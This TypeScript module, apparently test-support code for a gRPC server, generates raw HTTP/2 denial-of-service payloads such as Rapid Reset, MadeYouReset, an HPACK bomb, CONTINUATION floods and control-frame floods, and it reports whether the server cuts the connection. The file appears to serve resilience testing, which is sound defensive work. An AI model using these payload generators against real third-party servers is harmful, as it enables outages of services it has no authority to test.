/** What a hostile client can do to one HTTP/2 connection, as the bytes it sends. */

import { join } from "node:path";
import { SUBSCRIBE_PATH } from "../../support/h2-grpc";
import { FLAG, FRAME, headerBlock, rawFrame, uint32 } from "../../support/h2-raw";

/** Goes on for ever: each call is the next bytes of one connection, after its preface. */
export type NextBytes = () => Buffer;

/** What came of an attack. */
export interface AttackReport {
  /** Connections made, one after the other where the server ended one. */
  readonly connections: number;
  /** Connections that the server ended. */
  readonly cut: number;
  readonly sentBytes: number;
  /** How long the first that was cut had been open, in milliseconds. */
  readonly firstCutMs?: number;
}

export interface AttackOptions {
  /** host:port of the gRPC port. */
  readonly address: string;
  readonly ms: number;
  /** How much longer it goes on until a connection is cut, in milliseconds. Default 10 000. */
  readonly patienceMs?: number;
  /** At once. Default 1. */
  readonly connections?: number;
  /** Whether the attacker reads nothing of what the server says. */
  readonly deaf?: boolean;
}

/** Bytes that are made at once; large enough for the attacker to be no bottleneck. */
const CHUNK_BYTES = 32 * 1024;
const MAX_FRAME_BYTES = 16_384;
const BLOCK = headerBlock(SUBSCRIBE_PATH);
/** Of HPACK: a literal that goes into the dynamic table, and the first entry of that table. */
const LITERAL_INDEXED = 0x40;
const FIRST_DYNAMIC = 0x80 | 62;

const EMPTY = Buffer.alloc(0);

/** By name; each makes the state of one connection. */
const ATTACKS = {
  /** CVE-2023-44487: streams that are cancelled as soon as they are open. */
  "rapid reset": () => perStream((id) => [open(id), reset(id)]),
  /** CVE-2025-8671: the server is made to reset streams itself, which no count of the client's resets sees. */
  "made you reset": () => perStream((id) => [open(id), rawFrame(FRAME.windowUpdate, 0, id, uint32(0))]),
  "half-closed twice": () =>
    perStream((id) => [open(id, FLAG.endStream), rawFrame(FRAME.data, FLAG.endStream, id, EMPTY)]),
  "endless calls of no method": () => perStream((id) => [rawFrame(FRAME.headers, ENDS, id, headerBlock("/no/Method"))]),
  "too many streams": () => perStream((id) => [open(id)]),
  PINGs: () => repeat(rawFrame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  "answers to no PING": () => repeat(rawFrame(FRAME.ping, FLAG.ack, 0, Buffer.alloc(8))),
  SETTINGS: () => repeat(rawFrame(FRAME.settings, 0, 0, EMPTY)),
  "SETTINGS that turn the window": () => repeat(windowSetting(0), windowSetting(0x7fff_ffff)),
  "answers to no SETTINGS": () => repeat(rawFrame(FRAME.settings, FLAG.ack, 0, EMPTY)),
  PRIORITY: () => repeat(rawFrame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16]))),
  "frames of an unknown type": () => repeat(rawFrame(0xfa, 0, 0, Buffer.alloc(8))),
  "window updates of the connection": () => after([], rawFrame(FRAME.windowUpdate, 0, 0, uint32(1))),
  "window updates of a stream": () => after([open(1)], rawFrame(FRAME.windowUpdate, 0, 1, uint32(1))),
  "window updates of a stream that is over": () =>
    after([open(1), reset(1)], rawFrame(FRAME.windowUpdate, 0, 1, uint32(1))),
  "empty DATA": () => after([open(1)], rawFrame(FRAME.data, 0, 1, EMPTY)),
  "padding without DATA": () => after([open(1)], rawFrame(FRAME.data, 0x8, 1, Buffer.from([0]))),
  "resets of streams that are over": () => after([open(1), reset(1)], reset(1)),
  "resets of streams that never were": () => perStream((id) => [reset(id)]),
  GOAWAY: () => repeat(rawFrame(FRAME.goaway, 0, 0, Buffer.alloc(8))),
  "empty CONTINUATION": () => after([rawFrame(FRAME.headers, 0, 1, BLOCK)], rawFrame(FRAME.continuation, 0, 1, EMPTY)),
  "CONTINUATION without end": () =>
    after([rawFrame(FRAME.headers, 0, 1, BLOCK)], rawFrame(FRAME.continuation, 0, 1, junkFields(100))),
  "headers of 60 KiB": () => perStream((id) => bigHeaders(id)),
  "HPACK bomb": () => perStream((id) => hpackBomb(id)),
  "trailers without end": () => after([open(1)], rawFrame(FRAME.headers, FLAG.endHeaders, 1, junkFields(1))),
  garbage: () => repeat(Buffer.alloc(1_024, 0xff)),
} as const satisfies Readonly<Record<string, () => NextBytes>>;

export type AttackName = keyof typeof ATTACKS;

export const ATTACK_NAMES: readonly AttackName[] = Object.keys(ATTACKS).filter(isAttackName);

function isAttackName(name: string): name is AttackName {
  return Object.hasOwn(ATTACKS, name);
}

const ENDS = FLAG.endHeaders | FLAG.endStream;

/** Attacks from a process of its own. */
export async function attack(name: AttackName, options: AttackOptions): Promise<AttackReport> {
  const { address, ms, patienceMs = 10_000, connections = 1, deaf = false } = options;
  const port = address.split(":").at(-1);
  const time = [`--ms=${ms}`, `--patience-ms=${patienceMs}`];
  const how = [`--port=${port}`, `--attack=${name}`, `--connections=${connections}`, ...(deaf ? ["--deaf"] : [])];
  const command = [process.execPath, join(import.meta.dir, "attacker.ts"), ...how, ...time];
  const child = Bun.spawn(command, { stdin: "ignore", stdout: "pipe", stderr: "inherit" });
  const said = await new Response(child.stdout).text();
  if ((await child.exited) !== 0) throw new Error(`the attacker (${name}) failed: ${said}`);
  return JSON.parse(said);
}

/** @throws Error that lists the names there are. */
export function attackNamed(name: string): () => NextBytes {
  if (isAttackName(name)) return ATTACKS[name];
  throw new Error(`an attack is one of ${ATTACK_NAMES.join(", ")}; got ${JSON.stringify(name)}`);
}

/** The same frames again and again. */
function repeat(...frames: readonly Buffer[]): NextBytes {
  const once = Buffer.concat(frames);
  const chunk = Buffer.concat(new Array(Math.ceil(CHUNK_BYTES / once.length)).fill(once));
  return () => chunk;
}

/** Some frames, then another one again and again. */
function after(first: readonly Buffer[], then: Buffer): NextBytes {
  const rest = repeat(then);
  let begun = false;
  return () => {
    if (begun) return rest();
    begun = true;
    return Buffer.concat(first);
  };
}

/** Frames of one stream after the other. */
function perStream(framesOf: (id: number) => readonly Buffer[]): NextBytes {
  let id = 1;
  return () => {
    const frames: Buffer[] = [];
    for (let bytes = 0; bytes < CHUNK_BYTES; id += 2) {
      for (const frame of framesOf(id)) {
        frames.push(frame);
        bytes += frame.length;
      }
    }
    return Buffer.concat(frames);
  };
}

function open(id: number, flags = 0): Buffer {
  return rawFrame(FRAME.headers, FLAG.endHeaders | flags, id, BLOCK);
}

function reset(id: number): Buffer {
  return rawFrame(FRAME.rstStream, 0, id, uint32(8));
}

function windowSetting(bytes: number): Buffer {
  return rawFrame(FRAME.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(bytes)]));
}

/** Fields of about 110 bytes each, as literals. */
function junkFields(count: number): Buffer {
  const name = Buffer.from("x-junk");
  const value = Buffer.alloc(100, 0x76);
  const field = Buffer.concat([Buffer.from([0, name.length]), name, Buffer.from([value.length]), value]);
  return Buffer.concat(new Array(count).fill(field));
}

/** A header block just below what may be sent, in frames of the agreed size. */
function bigHeaders(id: number): readonly Buffer[] {
  const block = Buffer.concat([BLOCK, junkFields(420)]);
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += MAX_FRAME_BYTES) {
    const part = block.subarray(at, at + MAX_FRAME_BYTES);
    const flags = at + MAX_FRAME_BYTES >= block.length ? FLAG.endHeaders : 0;
    if (at === 0) frames.push(rawFrame(FRAME.headers, flags | FLAG.endStream, id, part));
    else frames.push(rawFrame(FRAME.continuation, flags, id, part));
  }
  return frames;
}

/** 16 KiB that stand for 48 MiB: a field of 3 900 bytes, then its index in the table again and again. */
function hpackBomb(id: number): readonly Buffer[] {
  const value = Buffer.alloc(3_900, 0x76);
  // A length above 126 has its rest in groups of seven bits.
  const rest = value.length - 127;
  const length = Buffer.from([127, (rest & 0x7f) | 0x80, rest >> 7]);
  const field = Buffer.concat([Buffer.from([LITERAL_INDEXED, 6]), Buffer.from("x-bomb"), length, value]);
  const bomb = Buffer.alloc(MAX_FRAME_BYTES - BLOCK.length - field.length, FIRST_DYNAMIC);
  return [rawFrame(FRAME.headers, ENDS, id, Buffer.concat([BLOCK, field, bomb]))];
}
